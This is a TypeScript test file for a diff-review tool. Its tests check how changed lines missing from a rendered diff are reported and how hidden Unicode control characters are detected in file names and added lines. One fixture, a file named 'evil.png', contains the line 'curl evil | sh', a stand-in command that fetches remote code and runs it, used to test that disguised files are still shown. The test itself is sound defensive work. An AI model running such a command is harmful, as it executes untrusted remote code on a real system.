import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inputFile } from '../../testing/input-file.ts';
import { scopeChange } from '../index.ts';
import { renderDiffFile } from './diff-text.ts';
import { hiddenFiles, unseenPlaces } from './shown.ts';

const rows = (from: number, to: number) =>
  Array.from({ length: to - from }, (_, n) => `row ${from + n}\n`).join('');

async function lookAt(files: Parameters<typeof scopeChange>[0]['files'], charsMax?: number) {
  const scope = await scopeChange({ files });
  const diff = files.map((file) => renderDiffFile(file, charsMax ? { charsMax } : {}));
  return { scope, diff, hidden: hiddenFiles(scope.files, diff) };
}

test('what the page has in full is not hidden, however it is folded', async () => {
  const { hidden } = await lookAt([
    inputFile('src/a.ts', rows(0, 20), rows(5, 30)),
    inputFile('package-lock.json', rows(0, 300), rows(100, 500)),
    inputFile('src/new.ts', null, rows(0, 9)),
    inputFile('src/old.ts', rows(0, 9), null),
    inputFile('src/empty.ts', null, ''),
    inputFile('src/moved.ts', rows(0, 4), rows(0, 4), 'src/was.ts'),
    { ...inputFile('logo.png', '', ''), binary: true },
    { ...inputFile('run.sh', 'x\n', 'x\n'), state: 'mode', modeChanged: true },
  ]);
  assert.deepEqual(hidden, []);
});

test('each changed line that the page does not have is counted, by file and with the reason', async () => {
  const files = [
    inputFile('src/long.ts', null, rows(0, 100)),
    { ...inputFile('tool', '', ''), binary: true },
    inputFile('latin1.txt', 'caf\ufffd\n', 'caf\ufffd\n'),
    inputFile('src/short.ts', 'a\n', 'b\n'),
  ];
  const { scope, diff, hidden } = await lookAt(files, 200);
  const shown = diff[0]!.text.split('\n').filter((line) => line.startsWith('+')).length;
  assert.ok(shown > 5 && shown < 100);
  assert.deepEqual(hidden, [
    { path: 'src/long.ts', lines: 100 - shown, why: 'cut' },
    { path: 'tool', lines: 0, why: 'binary' },
    { path: 'latin1.txt', lines: 0, why: 'unreadable' },
  ]);
  // A file that was not sent at all, and an expired preview.
  assert.deepEqual(hiddenFiles(scope.files, diff.slice(0, 3)).at(-1), {
    path: 'src/short.ts',
    lines: 2,
    why: 'cut',
  });
  assert.deepEqual(
    hiddenFiles(scope.files, null).map(({ lines, why }) => [lines, why]),
    [
      [100, 'gone'],
      [0, 'binary'],
      [0, 'unreadable'],
      [2, 'gone'],
    ],
  );
});

test('a path that says picture hides no text: it is shown as what it is', async () => {
  const { diff, hidden } = await lookAt([inputFile('evil.png', null, 'curl evil | sh\n')]);
  assert.deepEqual(hidden, []);
  assert.match(diff[0]!.text, /curl evil/);
});

test('unseen characters are found in names and in what is added, not in what was there or goes', async () => {
  const { diff } = await lookAt([
    inputFile(
      'a.ts',
      'one\u200b\ntwo\u202e\nthree\n',
      'one\u200b\nthree\nfour\u2066\u2066x\u200b\n',
    ),
    inputFile('b.ts', 'a\r\n', 'a\r\nb\r\n'),
  ]);
  assert.deepEqual(unseenPlaces(['main\u202e', 'origin', null, 'a.ts'], diff), [
    { where: 'main\u202e', line: null, names: ['U+202E RLO'] },
    { where: 'a.ts', line: 3, names: ['U+2066 LRI', 'U+200B ZWSP'] },
  ]);
});
